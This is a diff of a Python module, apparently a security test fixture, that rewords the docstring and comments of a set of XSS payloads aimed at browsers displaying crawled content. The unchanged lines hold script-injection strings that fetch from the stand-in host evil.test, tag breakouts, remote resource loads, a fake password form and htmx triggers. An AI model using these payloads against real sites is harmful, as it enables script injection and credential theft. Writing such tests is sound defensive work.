@@ -1,7 +1,7 @@
-"""Pages and a feed that attack a browser that shows what was crawled from them.
+"""Pages and a feed that attack browsers in which the crawled content is displayed.
 
-Every text that a crawler stores has markup in it: titles, main text, fields, categories, authors,
-ids, and URLs. A script that runs sets `window.owned`; everything that loads is at `EVIL`.
+Every text that a crawler stores contains markup: titles, main text, fields, categories, authors,
+ids, and URLs. Scripts that run set `window.owned`; all resources to load are at `EVIL`.
 """
 
 from __future__ import annotations
@@ -11,7 +11,7 @@ from xml.sax.saxutils import quoteattr
 
 EVIL = "http://evil.test"
 SCRIPT = f"window.owned=1;fetch('{EVIL}/')"
-# Quotes in all forms, so that each payload leaves the attribute or the string that it is put into.
+# Quotes in all forms, so that each payload escapes from the attribute or string around it.
 ATTACKS = {
     "script": f"<script>{SCRIPT}</script>",
     "end-tags": f"</title></textarea></script></style></template>--><script>{SCRIPT}</script>",
@@ -25,7 +25,7 @@ ATTACKS = {
     "loads": f"<img src={EVIL}/img><link rel=stylesheet href={EVIL}/link><base href={EVIL}/>"
     f"<iframe src={EVIL}/frame></iframe><object data={EVIL}/object></object>"
     f"<video poster={EVIL}/video src={EVIL}/film></video>",
-    # A crawler follows it, so that the page becomes an error with this URL in its text.
+    # A crawler follows this URL, so that the page's error message contains the URL.
     "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/<script>{SCRIPT}</script>">',
     "form": f"<form action={EVIL}/form><input name=password autofocus><button>Sign in</button>",
     "htmx": f'<p hx-get="{EVIL}/hx" hx-trigger="load">p</p><p data-hx-on:load="{SCRIPT}">p</p>',
